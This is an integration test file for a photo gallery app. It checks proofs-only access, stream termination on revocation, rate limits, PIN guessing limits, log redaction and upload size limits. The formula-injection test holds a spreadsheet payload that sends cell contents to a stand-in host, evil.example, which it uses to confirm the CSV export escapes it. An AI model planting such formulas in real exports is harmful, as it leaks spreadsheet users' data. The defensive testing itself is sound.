"""What a studio trusts the deployed app with, on the local stack: a proofs link gives nothing clean
by any route; a withdrawn link's open stream and ZIP end; a link cannot flood the studio's inbox,
hold the app's streams or run many ZIPs; guesses sent together are refused unchecked; exports
cannot run as formulas; no token reaches the logs; an upload stores what it was granted and no
more."""

import io
import re
import secrets
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta

import psycopg
import pytest
import requests
from bench.pipeline import photographic

from gallery_client import client, download_all, introduce, make_link, sent_emails, staff, token_of
from support import photo, wait_for

pytestmark = pytest.mark.integration
MIB = 1024 * 1024


@pytest.fixture(scope="module")
def shoot(stack):
    """Four photos, processed."""
    made = stack.studio.create_shoot("Trust")
    keys = [stack.upload(photographic(1600, 1200), f"Trust {n}.jpg", shoot=made["id"]) for n in range(4)]
    stack.studio.wait_for_shoot(made["id"], set(keys), timeout=120)
    return {"id": made["id"], "keys": keys, "paths": [k.split("/", 2)[2] for k in keys]}


def test_a_proofs_link_gives_nothing_clean_by_any_route(stack, shoot):
    link = make_link(stack, shoot["id"], downloads="web", proofs=True)
    visitor, base = client(stack, link), f"{stack.web_url}/api/g/{token_of(link)}"
    proofs = {key: stack.download(key, "proof") for key in shoot["keys"]}
    cleans = {stack.download(key, rendition) for key in shoot["keys"] for rendition in ("web", "full")}
    for size in ("thumb", "thumb_webp", "web", "web_webp"):
        target = visitor.get(f"{base}/images/{size}/{shoot['paths'][0]}", allow_redirects=False, timeout=30)
        assert "/proof" in target.headers["Location"].split("?")[0], size
    for key, path in zip(shoot["keys"], shoot["paths"]):
        download = visitor.get(f"{base}/downloads/{path}", allow_redirects=False, timeout=30)
        assert download.status_code == 302
        assert requests.get(download.headers["Location"], timeout=30).content == proofs[key]  # the watermarked proof
    [part] = download_all(stack, visitor, link)["parts"]
    archive = zipfile.ZipFile(io.BytesIO(part["content"]))
    entries = [archive.read(name) for name in archive.namelist()]
    assert sorted(entries) == sorted(proofs.values()) and not cleans & set(entries)
    # full size is a delivery link's: the API refuses the combination it cannot honour
    refused = staff(stack, "POST", f"/api/shoots/{shoot['id']}/links",
                    json={"name": "Both", "downloads": "full", "proofs": True})
    assert refused.status_code == 400 and "delivery link" in refused.json()["message"]
    changed = staff(stack, "PATCH", f"/api/shoots/{shoot['id']}/links/{link['id']}", json={"downloads": "full"})
    assert changed.status_code == 400


def _events(session: requests.Session, url: str, lines: list, done: threading.Event):
    with session.get(url, stream=True, timeout=120) as response:
        lines.append(response.status_code)
        for line in response.iter_lines(decode_unicode=True):
            lines.append(line)
    done.set()


def test_a_revoked_links_open_stream_ends_within_a_heartbeat(stack, shoot):
    link = make_link(stack, shoot["id"])
    visitor = client(stack, link)
    lines, done = [], threading.Event()
    threading.Thread(target=_events, daemon=True, args=(visitor, f"{stack.web_url}/api/g/{token_of(link)}/events",
                                                        lines, done)).start()
    wait_for(lambda: ": connected" in lines, timeout=10)
    revoked_at = time.monotonic()
    staff(stack, "POST", f"/api/shoots/{shoot['id']}/links/{link['id']}/revoke")
    # an upload now makes an event that the withdrawn link must not hear
    stack.upload(photo(64, 48, seed=77), "after the revoke.jpg", shoot=shoot["id"])
    assert done.wait(35), "the stream was still open 35 s after the revoke"
    heartbeat = int(stack.web_env.get("VIVIDART_WEB_SSE_HEARTBEAT_SECONDS", "15"))
    assert time.monotonic() - revoked_at <= 2 * heartbeat + 2
    assert "event: ended" in lines and "event: photo" not in lines


def _signed_in(stack) -> requests.Session:
    """A browser signed in as the stack's staff account: its session cookie and CSRF token."""
    browser = requests.Session()
    browser.trust_env, browser.verify = False, stack.verify
    page = browser.get(f"{stack.web_url}/signin", timeout=30)
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text)[1]
    signed = browser.post(f"{stack.web_url}/signin", timeout=30, data={
        "email": stack.staff["staff_email"], "password": stack.staff["staff_password"], "csrf_token": csrf})
    assert signed.status_code == 200 and "/signin" not in signed.url, signed.text[:300]
    browser.headers["X-CSRFToken"] = re.search(r'name="csrf-token" content="([^"]+)"', signed.text)[1]
    return browser


def _streaming(session: requests.Session, url: str, **headers):
    """An open event stream of `url`: its lines, and an event set once it ends."""
    lines, done = [], threading.Event()
    session.headers.update(headers)
    threading.Thread(target=_events, daemon=True, args=(session, url, lines, done)).start()
    wait_for(lambda: ": connected" in lines, timeout=10)
    return lines, done


def _ends_within_a_heartbeat(stack, done: threading.Event, since: float) -> None:
    heartbeat = int(stack.web_env.get("VIVIDART_WEB_SSE_HEARTBEAT_SECONDS", "15"))
    assert done.wait(2 * heartbeat + 5), "the stream was still open after its heartbeat"
    assert time.monotonic() - since <= heartbeat + 5


def test_signing_out_or_revoking_a_token_ends_the_staff_streams_it_opened(stack, shoot):
    events = f"{stack.web_url}/api/shoots/{shoot['id']}/events"
    browser = _signed_in(stack)
    lines, done = _streaming(browser, events)
    made = browser.post(f"{stack.web_url}/api/account/tokens", json={"name": "stream test"}, timeout=30).json()
    by_token = requests.Session()
    by_token.trust_env, by_token.verify = False, stack.verify
    token_lines, token_done = _streaming(by_token, events, Authorization=f"Bearer {made['token']}")

    signed_out = time.monotonic()
    other = requests.Session()  # the same cookie, as a second tab sends it: sign out
    other.trust_env, other.verify, other.cookies = False, stack.verify, browser.cookies
    assert other.post(f"{stack.web_url}/signout", data={"csrf_token": browser.headers["X-CSRFToken"]},
                      timeout=30).status_code in (200, 302)
    _ends_within_a_heartbeat(stack, done, signed_out)
    assert not token_done.is_set()  # a token is apart from the browser that made it

    second = _signed_in(stack)
    revoked = time.monotonic()
    assert second.delete(f"{stack.web_url}/api/account/tokens/{made['id']}", timeout=30).status_code == 204
    _ends_within_a_heartbeat(stack, token_done, revoked)
    assert requests.get(events, headers={"Authorization": f"Bearer {made['token']}"}, verify=stack.verify,
                        timeout=30).status_code == 401


def test_a_links_open_stream_ends_when_the_link_expires(stack, shoot):
    link = make_link(stack, shoot["id"])
    visitor = client(stack, link)
    lines, done = _streaming(visitor, f"{stack.web_url}/api/g/{token_of(link)}/events")
    soon = (datetime.now(UTC) + timedelta(seconds=2)).isoformat()
    assert staff(stack, "PATCH", f"/api/shoots/{shoot['id']}/links/{link['id']}", json={"expires_at": soon}).ok
    expired = time.monotonic() + 2
    _ends_within_a_heartbeat(stack, done, expired)
    assert visitor.get(f"{stack.web_url}/api/g/{token_of(link)}", timeout=30).status_code == 410


def test_a_link_cannot_flood_the_archiver_and_a_withdrawn_one_gets_no_more_links(stack):
    shoot = stack.studio.create_shoot("Trust, archives")
    keys = [stack.upload(photo(800, 600, seed=60 + n), f"Archive {n}.jpg", shoot=shoot["id"]) for n in range(2)]
    stack.studio.wait_for_shoot(shoot["id"], set(keys), timeout=120)
    link = make_link(stack, shoot["id"], downloads="web", proofs=False, name="Archives")
    visitor, base = client(stack, link), f"{stack.web_url}/api/g/{token_of(link)}"
    asked = [visitor.post(f"{base}/archives", json={}, timeout=30) for _ in range(12)]
    codes = [a.status_code for a in asked]
    assert codes[:10] == [202] * 10 and codes[10:] == [429, 429]  # ten an hour
    assert len({a.json()["id"] for a in asked[:10]}) == 1  # one archive: the gallery is the same, built once
    archive = asked[0].json()["id"]
    wait_for(lambda: visitor.get(f"{base}/archives/{archive}", timeout=30).json()["state"] == "ready", timeout=120)
    assert all(p["url"] for p in visitor.get(f"{base}/archives/{archive}", timeout=30).json()["parts"])
    staff(stack, "POST", f"/api/shoots/{shoot['id']}/links/{link['id']}/revoke")
    assert visitor.get(f"{base}/archives/{archive}", timeout=30).status_code == 410  # no link to it any more


def test_a_guests_archive_email_links_to_the_guests_address_and_a_link_made_proofs_gets_nothing_clean(stack):
    shoot = stack.studio.create_shoot("Trust, guests' archives")
    keys = [stack.upload(photo(800, 600, seed=70 + n), f"Guest archive {n}.jpg", shoot=shoot["id"]) for n in range(2)]
    stack.studio.wait_for_shoot(shoot["id"], set(keys), timeout=120)
    link = make_link(stack, shoot["id"], downloads="web", proofs=False, guests="download", name="Guests download")
    address = f"guest-{secrets.token_hex(3)}@archives.example"
    guest = introduce(stack, link["guest_url"], "A guest", address)  # guests say who they are
    guest_base = link["guest_url"].replace("/g/", "/api/g/")
    archive = guest.post(f"{guest_base}/archives", json={"email": address}, timeout=30).json()["id"]
    mail = wait_for(lambda: next((m for m in sent_emails(stack) if m.to == (address,)), None), timeout=120)
    assert link["guest_url"] in mail.text and token_of(link) not in mail.text  # never the couple's address
    assert "/unsubscribe/" in mail.text
    # the studio turns the link to proofs: the clean archive it asked for is no longer handed out
    assert staff(stack, "PATCH", f"/api/shoots/{shoot['id']}/links/{link['id']}", json={"proofs": True}).ok
    assert guest.get(f"{guest_base}/archives/{archive}", timeout=30).status_code == 404
    proofs = guest.post(f"{guest_base}/archives", json={}, timeout=30).json()
    assert proofs["id"] != archive and proofs["title"].endswith("(proofs)")


def test_a_link_holds_a_few_event_streams_at_most(stack, shoot):
    link = make_link(stack, shoot["id"], downloads="web")
    url = f"{stack.web_url}/api/g/{token_of(link)}"
    visitors = [client(stack, link) for _ in range(6)]
    held = [v.get(f"{url}/events", stream=True, timeout=30) for v in visitors[:4]]
    try:
        assert [r.status_code for r in held] == [200] * 4
        refused = visitors[4].get(f"{url}/events", stream=True, timeout=30)
        assert refused.status_code == 429
        refused.close()
    finally:
        for response in held:
            response.close()
    # a closed stream gives its slot back (at once, or when it is next found stale)
    wait_for(lambda: _opens(visitors[5], f"{url}/events"), timeout=60, interval=2)


def _opens(session, url) -> bool:
    with session.get(url, stream=True, timeout=30) as response:
        return response.status_code == 200


def test_many_selections_send_one_email_and_comments_are_rate_limited(stack, shoot):
    name = f"Flood {secrets.token_hex(3)}"  # its own emails, on a stack that may have run this before
    link = make_link(stack, shoot["id"], name=name, ask_visitors=True)
    base = f"{stack.web_url}/api/g/{token_of(link)}"
    couple = introduce(stack, link["url"], name, "couple@flood.example")
    couple.put(f"{base}/favourites/{shoot['paths'][1]}", timeout=30)
    sent = [couple.post(f"{base}/selection", timeout=30).status_code for _ in range(30)]
    assert sent.count(201) == 1 and set(sent[1:]) <= {409, 429}  # submitted once, then locked (and then slowed)
    # guests made one after another, each submitting: no email each, one with them all later
    guests = link["guest_url"].replace("/g/", "/api/g/")
    for n in range(5):
        guest = introduce(stack, link["guest_url"], f"Guest {n}", f"guest{n}@flood.example")
        assert guest.put(f"{guests}/favourites/{shoot['paths'][n % 4]}", timeout=30).status_code == 200
        assert guest.post(f"{guests}/selection", timeout=30).status_code == 201
    about = lambda: [m for m in sent_emails(stack) if name in m.subject]  # noqa: E731
    [first] = wait_for(about)
    assert first.subject.startswith(f"{name} sent a selection of 1")
    with psycopg.connect(stack.web_env["VIVIDART_WEB_DATABASE_URL"]) as conn:  # five minutes pass
        conn.execute("UPDATE share_links SET selection_emailed_at = now() - interval '6 minutes' WHERE id = %s",
                     (link["id"],))
    tick = stack.aws("lambda").invoke(FunctionName=stack.outputs["ticks_name"], Payload=b"{}")
    assert "FunctionError" not in tick
    _, together = wait_for(lambda: len(found := about()) == 2 and found, timeout=60)
    assert together.subject == f"5 selections sent on {name} from Trust"
    assert all(f"Guest {n} ({name}) chose 1 photo from" in together.text for n in range(5))
    assert len(about()) == 2
    codes = [couple.post(f"{base}/comments/{shoot['paths'][1]}", json={"body": f"comment {n}"}, timeout=30).status_code
             for n in range(35)]
    assert codes.count(201) == 30 and codes[-1] == 429


def test_pin_guesses_sent_at_once_from_one_address_are_mostly_refused_unchecked(stack, shoot):
    link = make_link(stack, shoot["id"], pin="975312")
    guesser = client(stack, link)
    csrf = guesser.headers["X-CSRFToken"]
    with ThreadPoolExecutor(20) as pool:
        codes = list(pool.map(lambda n: guesser.post(f"{link['url']}/unlock", timeout=30,
                                                     data={"pin": f"{n:06d}", "csrf_token": csrf}).status_code, range(40)))
    assert codes.count(429) >= 35 and codes.count(401) <= 5, codes


def test_an_exported_comment_cannot_run_as_a_formula(stack, shoot):
    link = make_link(stack, shoot["id"], name="Formulas")
    visitor, base = client(stack, link), f"{stack.web_url}/api/g/{token_of(link)}"
    path = shoot["paths"][2]
    visitor.put(f"{base}/favourites/{path}", timeout=30)
    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert visitor.post(f"{base}/comments/{path}", json={"body": evil}, timeout=30).status_code == 201
    table = staff(stack, "GET", f"/api/shoots/{shoot['id']}/links/{link['id']}/selection.csv").text.splitlines()
    row = table[1]
    assert "'=HYPERLINK" in row and ",=HYPERLINK" not in row and ',"=HYPERLINK' not in row


def test_no_token_reaches_the_logs(stack, shoot):
    link = make_link(stack, shoot["id"], name="Logged")
    token = token_of(link)
    visitor = client(stack, link)
    visitor.get(f"{stack.web_url}/api/g/{token}", timeout=30)
    requests.get(f"{stack.web_url}/g/{token[:-1]}x", timeout=30)  # a wrong one, logged as refused
    # gunicorn writes its access log lines after the responses: both are there once the second is
    log = wait_for(lambda: (text := (stack.run_dir / "web.log").read_text()).count(f"/g/{link['id']}-") >= 2 and text)
    assert f"/g/{link['id']}-[token]" in log  # the link's id says which gallery was asked for
    assert token.split("-", 1)[1] not in log and stack.staff["api_token"] not in log


def test_an_upload_stores_what_it_was_granted_and_no_more(stack, shoot):
    s3, bucket = stack.aws("s3"), stack.outputs["source_bucket"]
    size = 20 * MIB  # two parts: 16 MiB and 4 MiB
    grant = staff(stack, "POST", f"/api/shoots/{shoot['id']}/uploads", json={"filename": "granted.jpg", "size": size}).json()
    assert grant["part_sizes"] == [16 * MIB, 4 * MIB]

    def sign(**body):
        answer = staff(stack, "POST", f"/api/shoots/{shoot['id']}/uploads/sign",
                       json={"key": grant["key"], "grant": grant["grant"], **body})
        return answer

    created = sign(method="POST").json()
    upload_id = re.search(r"<UploadId>([^<]+)</UploadId>",
                          requests.post(created["url"], headers=created["headers"], timeout=30).text)[1]
    part_two = sign(method="PUT", uploadId=upload_id, partNumber=2).json()["url"]
    # more bytes than the part was signed for: storage refuses them
    assert requests.put(part_two, data=b"x" * (5 * MIB), timeout=60).status_code == 403
    assert sign(method="PUT", uploadId=upload_id, partNumber=3).status_code == 400  # no third part
    assert requests.put(part_two, data=b"x" * (4 * MIB), timeout=60).status_code == 200
    # completing without part 1: refused, and the upload aborted (its parts deleted)
    complete = sign(method="POST", uploadId=upload_id).json()
    refused = requests.post(complete["url"], headers={**complete["headers"], "Authorization": f"Bearer {stack.staff['api_token']}"},
                            timeout=30)
    assert refused.status_code == 400 and "aborted" in refused.json()["message"]
    with pytest.raises(s3.exceptions.NoSuchUpload):
        s3.list_parts(Bucket=bucket, Key=grant["key"], UploadId=upload_id)
    # and incomplete uploads left behind expire by the bucket's own rule
    rules = s3.get_bucket_lifecycle_configuration(Bucket=bucket)["Rules"]
    assert any(r.get("AbortIncompleteMultipartUpload", {}).get("DaysAfterInitiation", 99) <= 7 for r in rules)


def test_a_granted_multipart_upload_completes_and_is_processed(stack, shoot):
    picture = photographic(6000, 4000)
    data = picture + b"\0" * max(0, 17 * MIB - len(picture))  # trailing bytes: a JPEG decoder ignores them
    grant = staff(stack, "POST", f"/api/shoots/{shoot['id']}/uploads",
                  json={"filename": "multipart.jpg", "size": len(data)}).json()
    sign = lambda **body: staff(stack, "POST", f"/api/shoots/{shoot['id']}/uploads/sign",  # noqa: E731
                                json={"key": grant["key"], "grant": grant["grant"], **body}).json()
    created = sign(method="POST")
    upload_id = re.search(r"<UploadId>([^<]+)</UploadId>",
                          requests.post(created["url"], headers=created["headers"], timeout=30).text)[1]
    at = 0
    for number, length in enumerate(grant["part_sizes"], 1):
        url = sign(method="PUT", uploadId=upload_id, partNumber=number)["url"]
        assert requests.put(url, data=data[at:at + length], timeout=60).status_code == 200
        at += length
    complete = sign(method="POST", uploadId=upload_id)
    done = requests.post(complete["url"], headers={**complete["headers"], "Authorization": f"Bearer {stack.staff['api_token']}",
                                                   "Content-Type": "application/xml"}, timeout=60)
    assert done.status_code == 200 and f"<Key>{grant['key']}</Key>" in done.text
    assert stack.studio.wait(grant["key"], timeout=120)["status"] == "processed"
